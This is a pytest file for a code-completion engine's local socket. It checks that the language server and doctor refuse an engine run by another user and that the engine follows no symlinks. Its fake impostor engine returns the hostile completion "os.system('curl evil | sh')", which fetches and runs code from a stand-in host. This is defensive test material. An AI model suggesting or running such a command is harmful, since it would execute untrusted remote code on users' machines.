"""Another local user must not be able to stand in for the engine: the socket's directory and the process behind
the socket are checked by every client (language server, doctor), and the engine follows no symlink.

The tests that play the other user run a process as ``nobody`` (uid 65534) and need root; they skip otherwise.
"""

from __future__ import annotations

import asyncio
import json
import os
import shutil
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from diffgemma_engine.shared import socket_paths
from tests.support.lsp import RawLsp, server_command

pytestmark = pytest.mark.e2e
NOBODY = 65534
SYSTEM_PYTHON = shutil.which("python3", path="/usr/bin:/bin")
"""A Python that another user can run (the project's venv may not be readable by them)."""
as_root = pytest.mark.skipif(
    os.getuid() != 0 or SYSTEM_PYTHON is None, reason="playing another local user needs root and /usr/bin/python3"
)

FAKE_ENGINE = r"""
import json, os, socket, struct, sys
path, record = sys.argv[1], sys.argv[2]
server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
server.bind(path)
os.chmod(path, 0o777)
server.listen(8)
open(record, "w").close()
def send(conn, message):
    body = json.dumps(message).encode()
    conn.sendall(struct.pack(">I", len(body)) + body)
while True:
    conn, _ = server.accept()
    try:
        while True:
            header = conn.recv(4, socket.MSG_WAITALL)
            if len(header) < 4:
                break
            message = json.loads(conn.recv(struct.unpack(">I", header)[0], socket.MSG_WAITALL))
            with open(record, "a") as out:
                out.write(message["type"] + "\n")
            if message["type"] == "hello":
                send(conn, {"type": "hello_ok", "protocol": 1, "model_id": "fake", "ready": True})
            elif message["type"] == "infill":
                send(conn, {"type": "result", "id": message["id"], "text": "os.system('curl evil | sh')",
                            "stop": "eos"})
    except OSError:
        pass
    finally:
        conn.close()
"""


@pytest.fixture
def foreign_dir(short_tmp: Path) -> Iterator[Path]:
    """A directory another user made first, where that user's fake engine listens."""
    directory = short_tmp / "diffgemma"
    directory.mkdir(mode=0o777)
    os.chmod(short_tmp, 0o755)
    os.chmod(directory, 0o777)
    os.chown(directory, NOBODY, NOBODY)
    record = directory / "received"
    fake = subprocess.Popen(
        [str(SYSTEM_PYTHON), "-c", FAKE_ENGINE, str(directory / "engine.sock"), str(record)],
        user=NOBODY,
        stdin=subprocess.DEVNULL,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    deadline = time.monotonic() + 30
    while not record.exists():
        assert fake.poll() is None and time.monotonic() < deadline, "the fake engine did not start"
        time.sleep(0.05)
    yield directory
    fake.kill()
    fake.wait()


def test_a_clients_checks_refuse_symlinks_foreign_and_shared_directories(short_tmp: Path) -> None:
    own = short_tmp / "own"
    own.mkdir(mode=0o700)
    socket_paths.check_socket_dir(own)  # fine
    link = short_tmp / "link"
    link.symlink_to(own)
    with pytest.raises(socket_paths.UnsafeSocketError, match="symbolic link"):
        socket_paths.check_socket_dir(link)
    shared = short_tmp / "shared"
    shared.mkdir()
    os.chmod(shared, 0o777)
    with pytest.raises(socket_paths.UnsafeSocketError, match="written by others"):
        socket_paths.check_socket_dir(shared)
    with pytest.raises(FileNotFoundError):
        socket_paths.check_socket_dir(short_tmp / "missing")


def test_without_xdg_runtime_dir_the_socket_lives_where_no_one_else_can_make_it(
    short_tmp: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("XDG_RUNTIME_DIR", raising=False)
    monkeypatch.setenv("XDG_CACHE_HOME", str(short_tmp / "cache"))
    assert socket_paths.runtime_dir() == short_tmp / "cache" / "diffgemma" / "run"
    foreign = short_tmp / "foreign-runtime"
    foreign.mkdir()
    if os.getuid() == 0:
        os.chown(foreign, NOBODY, NOBODY)
        monkeypatch.setenv("XDG_RUNTIME_DIR", str(foreign))  # inherited through su: another user's
        assert socket_paths.runtime_dir() == short_tmp / "cache" / "diffgemma" / "run"
    mine = short_tmp / "mine"
    mine.mkdir(mode=0o700)
    monkeypatch.setenv("XDG_RUNTIME_DIR", str(mine))
    assert socket_paths.runtime_dir() == mine / "diffgemma"


def test_the_engine_follows_no_symlink_to_its_socket_directory(short_tmp: Path) -> None:
    target = short_tmp / "target"
    target.mkdir(mode=0o755)
    os.chmod(target, 0o755)
    (short_tmp / "run").symlink_to(target)
    done = subprocess.run(
        [sys.executable, "-m", "diffgemma_engine", "serve", "--socket", str(short_tmp / "run" / "engine.sock")],
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert done.returncode == 4, done.stderr
    assert "not a real directory" in done.stderr
    assert os.stat(target).st_mode & 0o777 == 0o755  # not chmod'ed through the link


@as_root
async def test_a_process_of_another_user_is_refused_as_the_engine(foreign_dir: Path) -> None:
    socket_path = foreign_dir / "engine.sock"
    with pytest.raises(socket_paths.UnsafeSocketError, match="belongs to uid 65534"):
        await socket_paths.open_engine(socket_path)
    reader, writer = await asyncio.open_unix_connection(str(socket_path))  # past the directory check: the peer's
    with pytest.raises(socket_paths.UnsafeSocketError, match="runs as uid 65534"):
        socket_paths.check_peer(writer.get_extra_info("socket"))
    writer.close()
    command = [sys.executable, "-m", "diffgemma_lsp", "doctor", "--engine-socket", str(socket_path), "--json"]
    done = await asyncio.to_thread(subprocess.run, command, capture_output=True, text=True, timeout=60)
    report = json.loads(done.stdout)
    assert done.returncode == 2 and "65534" in report["problem"], report
    assert (foreign_dir / "received").read_text() == ""  # the fake saw nothing, not even a handshake


@as_root
async def test_the_language_server_sends_no_code_to_another_users_engine(foreign_dir: Path) -> None:
    uri = "file:///work/secret.py"
    lsp = await RawLsp.start(server_command(foreign_dir / "engine.sock", None))
    try:
        await lsp.initialize({"debounceMs": 0})
        lsp.open(uri, "API_TOKEN = 'secret'\ndef f():\n    ")
        params = {"textDocument": {"uri": uri}, "position": {"line": 2, "character": 4}, "context": {"triggerKind": 1}}
        for request_id in range(10, 16):
            lsp.request(request_id, "textDocument/completion", params)
            reply = await lsp.reply(request_id)
            assert reply["result"]["items"] == [], reply
            await asyncio.sleep(0.3)
        shown = [m["params"]["message"] for m in lsp.notifications if m["method"] == "window/showMessage"]
        assert any("65534" in message for message in shown), shown
    finally:
        await lsp.stop()
    assert (foreign_dir / "received").read_text() == ""
    print(f"another user's engine: 6 completions asked, 0 frames reached it; the user was told: {shown[0]!r}")
